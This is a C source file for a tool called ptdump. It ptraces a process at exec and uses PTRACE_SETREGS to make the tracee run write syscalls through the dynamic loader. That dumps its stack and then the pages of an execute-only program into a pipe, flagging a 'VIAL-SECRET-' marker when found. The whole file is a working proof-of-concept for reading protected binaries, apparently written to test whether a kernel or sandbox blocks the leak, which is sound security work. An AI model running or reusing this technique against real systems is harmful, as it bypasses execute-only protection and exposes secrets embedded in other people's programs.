/*
 * ptdump PROG [ARG...]: ptrace before exec, against an execute-only PROG.
 * Forks; the child asks to be traced and execs PROG.
 * ptdump -p PID FILE: the same from outside: seize PID (a process of the
 * user's that will exec PROG, e.g. a shell inside a container) and wait
 * for its exec; FILE is where PID's stdout goes, read back for the data.
 * At the exec stop the
 * tracer tries PTRACE_PEEKTEXT (the kernel should refuse: the new mm is not
 * dumpable), then PTRACE_SETREGS to make the tracee itself run write(2)s
 * through a `syscall` instruction of the (readable) dynamic loader: first
 * of its stack (for the auxiliary vector, AT_PHDR), then of its own
 * program's pages, into a pipe. Prints what each step gave, and
 * "LEAKED <marker>" when a VIAL-SECRET- string came out of the program.
 * x86_64 only.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t child;
static int rfd, wfd = 9;	/* we read rfd; the tracee writes to its wfd */

/* the file offset -> address of the first `syscall` (0f 05) in an
 * executable segment of the ELF file PATH; 0 if none */
static unsigned long find_syscall(const char *path, unsigned long *entry)
{
	static unsigned char buf[4 << 20];
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
	Elf64_Ehdr *e = (Elf64_Ehdr *)buf;

	if (n < (ssize_t)sizeof *e)
		return 0;
	*entry = e->e_entry;
	for (int i = 0; i < e->e_phnum; i++) {
		Elf64_Phdr *p = (Elf64_Phdr *)(buf + e->e_phoff + i * e->e_phentsize);
		if (p->p_type != PT_LOAD || !(p->p_flags & PF_X))
			continue;
		for (unsigned long o = p->p_offset; o + 1 < p->p_offset + p->p_filesz && o + 1 < (unsigned long)n; o++)
			if (buf[o] == 0x0f && buf[o + 1] == 0x05)
				return p->p_vaddr + (o - p->p_offset);
	}
	return 0;
}

/* make the tracee run syscall nr(a, b, c) at `at`; its return value */
static long inject(struct user_regs_struct *saved, unsigned long at, long nr, long a, long b, long c)
{
	struct user_regs_struct r = *saved;
	int st;

	r.rip = at, r.rax = nr, r.orig_rax = -1, r.rdi = a, r.rsi = b, r.rdx = c;
	if (ptrace(PTRACE_SETREGS, child, 0, &r))
		return printf("setregs: %s\n", strerror(errno)), -1000;
	if (ptrace(PTRACE_SINGLESTEP, child, 0, 0))
		return printf("singlestep: %s\n", strerror(errno)), -1000;
	if (waitpid(child, &st, 0) < 0 || !WIFSTOPPED(st))
		return printf("tracee gone (status %#x)\n", st), -1000;
	if (ptrace(PTRACE_GETREGS, child, 0, &r))
		return printf("getregs: %s\n", strerror(errno)), -1000;
	return r.rax;
}

/* the tracee writes [addr, addr+len) into our pipe; we read it into out */
static long pull(struct user_regs_struct *s, unsigned long sc, unsigned long addr, size_t len, unsigned char *out)
{
	long w = inject(s, sc, 1 /* write */, wfd, addr, len), got = 0, r;

	while (w > 0 && got < w && (r = read(rfd, out + got, w - got)) > 0)
		got += r;
	return w;
}

int main(int argc, char **argv)
{
	static unsigned char stack[4096], img[1 << 20];
	struct user_regs_struct regs;
	unsigned long entry = 0, sc, phdr = 0;
	int p[2], st;
	long w;

	if (argc < 2)
		return fprintf(stderr, "usage: ptdump PROG [ARG...] | -p PID FILE\n"), 2;
	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(argv[1], "-p") && argc > 3) {
		child = atoi(argv[2]);
		rfd = open(argv[3], O_RDONLY);
		if (rfd < 0 || lseek(rfd, 0, SEEK_END) < 0)
			return printf("open %s: %s\n", argv[3], strerror(errno)), 1;
		wfd = 1;
		if (ptrace(PTRACE_SEIZE, child, 0, PTRACE_O_TRACEEXEC))
			return printf("seize %d: %s\n", child, strerror(errno)), 1;
		printf("seized %d\n", child);
		for (;;) {	/* pass every signal on until the exec */
			if (waitpid(child, &st, __WALL) < 0 || !WIFSTOPPED(st))
				return printf("no exec stop (status %#x)\n", st), 1;
			if (st >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8)))
				break;
			ptrace(PTRACE_CONT, child, 0, st >> 16 ? 0 : WSTOPSIG(st));
		}
	} else {
		if (pipe(p))
			return perror("pipe"), 1;
		child = fork();
		if (child == 0) {
			dup2(p[1], 9);
			if (ptrace(PTRACE_TRACEME, 0, 0, 0))
				perror("traceme"), _exit(1);
			execv(argv[1], argv + 1);
			perror("execv"), _exit(1);
		}
		close(p[1]);
		rfd = p[0];
		if (waitpid(child, &st, 0) < 0 || !WIFSTOPPED(st))
			return printf("no exec stop (status %#x)\n", st), 1;
	}
	printf("exec stop: signal %d\n", WSTOPSIG(st));
	if (ptrace(PTRACE_GETREGS, child, 0, &regs))
		return printf("getregs: %s\n", strerror(errno)), 1;
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, child, regs.rip, 0);
	printf("peektext at rip: %s\n", errno ? strerror(errno) : "ok (read the tracee's memory)");
	(void)word;
	sc = find_syscall("/lib64/ld-linux-x86-64.so.2", &entry);
	if (!sc)
		return printf("no syscall instruction in the loader\n"), 1;
	sc += regs.rip - entry;	/* rip is the loader's entry, relocated */
	if (wfd == 1) {	/* an exec event stop is inside execve, which would
			 * overwrite rax on its way out: one step to user mode */
		if (ptrace(PTRACE_SINGLESTEP, child, 0, 0) || waitpid(child, &st, __WALL) < 0 ||
		    ptrace(PTRACE_GETREGS, child, 0, &regs))
			return printf("step out of execve: %s\n", strerror(errno)), 1;
	}
	/* in small pieces: a write that runs off the stack's top fails whole */
	for (w = 0; w < (long)sizeof stack; w += 256)
		if (pull(&regs, sc, regs.rsp + w, 256, stack + w) != 256)
			break;
	printf("setregs+write of the stack: %ld bytes\n", w);
	if (w > 0) {	/* argc, argv..., 0, envp..., 0, auxv */
		unsigned long *v = (unsigned long *)stack, i = 1 + v[0] + 1, nw = (unsigned long)w / 8;
		while (i < nw && v[i])
			i++;
		for (i++; i + 1 < nw && v[i]; i += 2)
			if (v[i] == AT_PHDR)
				phdr = v[i + 1];
	}
	printf("AT_PHDR: %#lx\n", phdr);
	if (phdr) {	/* the program's pages from its ELF header on, one page at a time */
		unsigned long base = (phdr - sizeof(Elf64_Ehdr)) & ~4095UL, total = 0;
		for (unsigned long off = 0; off < sizeof img; off += 4096)
			if (pull(&regs, sc, base + off, 4096, img + off) == 4096)
				total += 4096;
		printf("program pages written out by the tracee: %lu bytes\n", total);
		unsigned char *m = memmem(img, sizeof img, "VIAL-SECRET-", 12);
		if (m)
			printf("LEAKED %.16s\n", m);
	}
	kill(child, SIGKILL);
	waitpid(child, &st, __WALL);
	return 0;
}
